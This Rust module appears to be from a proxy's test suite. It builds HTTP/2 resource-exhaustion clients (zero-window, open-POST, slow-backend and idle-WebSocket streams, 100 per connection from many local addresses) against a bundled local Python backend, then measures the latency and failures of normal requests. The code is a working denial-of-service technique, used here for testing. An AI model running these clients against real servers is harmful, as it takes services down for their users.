//! Clients that make a proxy hold as many resources as possible: HTTP/2 connections full of requests that never end.

use std::io::Write;
use std::net::{SocketAddr, TcpStream};
use std::process::Command;

use socket2::{Domain, Socket, Type};

use crate::client::request;
use crate::http2::{DATA, END_HEADERS, END_STREAM, HEADERS, SETTINGS, block, frame};
use crate::peers::Process;
use crate::{Client, millis, secs, tools};

/// Reason why the requests do not end.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// The client's flow-control window is zero.
    ZeroWindow,
    /// The client's flow-control window is small and is never increased.
    TinyWindow,
    OpenPosts,
    SlowBackend,
    /// The requests are WebSockets without messages.
    WebSockets,
}

impl Kind {
    pub const ALL: [Self; 4] = [Self::ZeroWindow, Self::OpenPosts, Self::SlowBackend, Self::WebSockets];

    fn path(self) -> &'static str {
        match self {
            Self::ZeroWindow | Self::TinyWindow => "/held/big",
            Self::OpenPosts => "/held/post",
            Self::SlowBackend => "/held/slow",
            Self::WebSockets => "/held/socket",
        }
    }
}

/// Requests on each connection: the default limit of a listener.
pub const STREAMS: u32 = 100;

const BACKEND: &str = r#"
import socket, select, resource
hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
big = b"HTTP/1.1 200 OK\r\nContent-Length: 1000000\r\n\r\n" + b"x" * 1000000
small = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
switched = b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n" \
    b"Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n"
listener = socket.socket()
listener.bind(("127.0.0.1", 0))
listener.listen(4096)
listener.setblocking(False)
print("port", listener.getsockname()[1], flush=True)
poll = select.epoll()
poll.register(listener.fileno(), select.EPOLLIN)
held = {}
while True:
    for fd, _ in poll.poll():
        if fd == listener.fileno():
            for _ in range(256):
                try:
                    one, _ = listener.accept()
                except OSError:
                    break
                one.setblocking(False)
                one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 128 * 1024)
                held[one.fileno()] = one
                poll.register(one.fileno(), select.EPOLLIN)
            continue
        one = held[fd]
        try:
            data = one.recv(65536)
        except BlockingIOError:
            continue
        except OSError:
            data = b""
        if not data:
            poll.unregister(fd)
            del held[fd]
            one.close()
            continue
        try:
            if data.startswith(b"POST"):
                poll.modify(fd, 0)
            elif b"/held/big" in data:
                one.send(big)
            elif b"/held/socket" in data:
                one.send(switched)
            elif b"/held/" not in data:
                one.send(small)
        except OSError:
            pass
"#;

/// A backend that answers `/` at once and keeps the requests of [`Kind`] open.
pub fn backend() -> Process {
    let mut process = Process::start(Command::new(tools::program("python3")).args(["-u", "-c", BACKEND]));
    let line = process.stdout.wait_for("port ", secs(20));
    process.address = format!("127.0.0.1:{}", line.trim_start_matches("port "));
    process
}

/// Connections with requests that never end. Dropping the attack closes them.
pub struct Attack {
    connections: Vec<TcpStream>,
}

impl Attack {
    /// Opens connections, each from its own address.
    pub fn from_many(address: &str, kind: Kind, connections: usize) -> Self {
        Self::from_each(address, kind, (0..connections).map(|n| format!("127.1.{}.{}", n / 250, n % 250 + 1)))
    }

    /// Opens connections from `source` (an address of this machine), each full of requests. Connections that the server
    /// refuses count too.
    pub fn begin(address: &str, source: &str, kind: Kind, connections: usize) -> Self {
        Self::from_each(address, kind, std::iter::repeat_n(source.to_owned(), connections))
    }

    fn from_each(address: &str, kind: Kind, sources: impl Iterator<Item = String>) -> Self {
        let bytes = preface(kind);
        let connections = sources
            .filter_map(|source| {
                let mut stream = connect_from(&source, address).ok()?;
                stream.set_nonblocking(true).ok()?;
                // A socket whose buffer is full is not waited for.
                let _ = stream.write(&bytes);
                Some(stream)
            })
            .collect();
        Self { connections }
    }

    pub fn len(&self) -> usize {
        self.connections.len()
    }
}

pub fn connect_from(source: &str, address: &str) -> std::io::Result<TcpStream> {
    let socket = Socket::new(Domain::IPV4, Type::STREAM, None)?;
    let source: SocketAddr = format!("{source}:0").parse().unwrap();
    socket.bind(&source.into())?;
    let address: SocketAddr = address.parse().unwrap();
    socket.connect_timeout(&address.into(), secs(5))?;
    let stream = TcpStream::from(socket);
    stream.set_nodelay(true)?;
    Ok(stream)
}

fn preface(kind: Kind) -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    // Only [`Kind::ZeroWindow`] and [`Kind::TinyWindow`] depend on the window.
    let window = if kind == Kind::TinyWindow { 300_u16 } else { 0 };
    let [high, low] = window.to_be_bytes();
    bytes.extend(frame(SETTINGS, 0, 0, &[0, 4, 0, 0, high, low]));
    for number in 0..STREAMS {
        let stream = 2 * number + 1;
        let path = kind.path();
        let (method, ends) = match kind {
            Kind::ZeroWindow | Kind::TinyWindow | Kind::SlowBackend => ("GET", END_STREAM),
            Kind::OpenPosts => ("POST", 0),
            Kind::WebSockets => ("CONNECT", 0),
        };
        let mut fields =
            vec![(":method", method), (":scheme", "http"), (":authority", "test"), (":path", path)];
        if kind == Kind::WebSockets {
            fields.insert(1, (":protocol", "websocket"));
            fields.push(("sec-websocket-version", "13"));
        }
        bytes.extend(frame(HEADERS, END_HEADERS | ends, stream, &block(&fields)));
        if kind == Kind::OpenPosts && number < 4 {
            // Less than the initial window of a connection (RFC 9113 section 6.9.2).
            bytes.extend(frame(DATA, 0, stream, &[b'x'; 16_000]));
        }
    }
    bytes
}

/// Results of requests from outside the attack.
#[derive(Debug)]
pub struct Answers {
    pub good: usize,
    pub failures: Vec<String>,
    /// 99th percentile of the latency, in milliseconds.
    pub p99: u128,
}

/// Sends `count` requests for `/`, one after the other, each on a new connection from `source`.
pub fn ask(address: &str, source: &str, count: usize) -> Answers {
    let (mut failures, mut took) = (Vec::new(), Vec::new());
    let bytes = request("GET", "/", &[("Connection", "close")], b"");
    for _ in 0..count {
        let began = std::time::Instant::now();
        let answer =
            connect_from(source, address).map_err(|error| format!("connect: {error}")).and_then(|stream| {
                let mut client = Client::over(crate::client::Stream::Tcp(stream));
                client.try_send(&bytes).map_err(|error| format!("send: {error}"))?;
                client.try_response(secs(10))
            });
        match answer {
            Ok(answer) if answer.status == 200 => {}
            Ok(answer) => failures.push(format!("status {}", answer.status)),
            Err(why) => failures.push(why),
        }
        took.push(began.elapsed().as_millis());
        // This pause does not wait for an event: it makes the measurement long enough to overlap with the attack.
        std::thread::sleep(millis(5));
    }
    took.sort_unstable();
    Answers { good: count - failures.len(), failures, p99: took[count * 99 / 100] }
}
